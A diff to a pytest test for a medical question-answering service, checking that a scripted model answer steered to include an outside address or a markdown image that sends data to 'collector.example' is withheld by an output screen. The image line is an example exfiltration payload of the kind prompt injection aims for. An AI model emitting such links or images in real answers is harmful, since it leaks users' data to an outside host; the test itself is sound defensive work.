@@ -341,21 +341,24 @@ async def test_the_extractive_strategy_asks_no_model(deps: Any) -> None:
     assert "Metformin is the first-line drug" in answer.text
 
 
+@pytest.mark.parametrize(
+    "address",
+    ["www.evil-site.com", "![chart](collector.example/p.png?d=metformin)"],
+)
 async def test_an_answer_carrying_an_address_its_evidence_lacks_is_withheld_and_the_evidence_quoted(
-    deps: Any,
+    deps: Any, address: str
 ) -> None:
     # (A code with digits, "XK-2231", is already removed by the citation check: its number is
-    # in no passage. An address passes the check's thresholds; the screen stops it.)
-    steered = (
-        "Metformin is the first-line drug for type 2 diabetes in adults, www.evil-site.com [1]."
-    )
+    # in no passage. An address, or a markdown image the reader's browser would fetch, passes
+    # the check's thresholds; the screen stops it.)
+    steered = f"Metformin is the first-line drug for type 2 diabetes in adults, {address} [1]."
     llm = ScriptedLLM([steered])
     service = await _service(*deps, llm)
     trace = Trace()
     answer = await service.answer(
         "first-line drug for type 2 diabetes?", mode="classical", trace=trace, access=EVERY_LABEL
     )
-    assert "evil" not in answer.text
+    assert address not in answer.text
     assert answer.kind == "extractive"
     assert "output_withheld" in answer.flags
     screen = next(s for s in trace.steps if s.name == "screen_output")
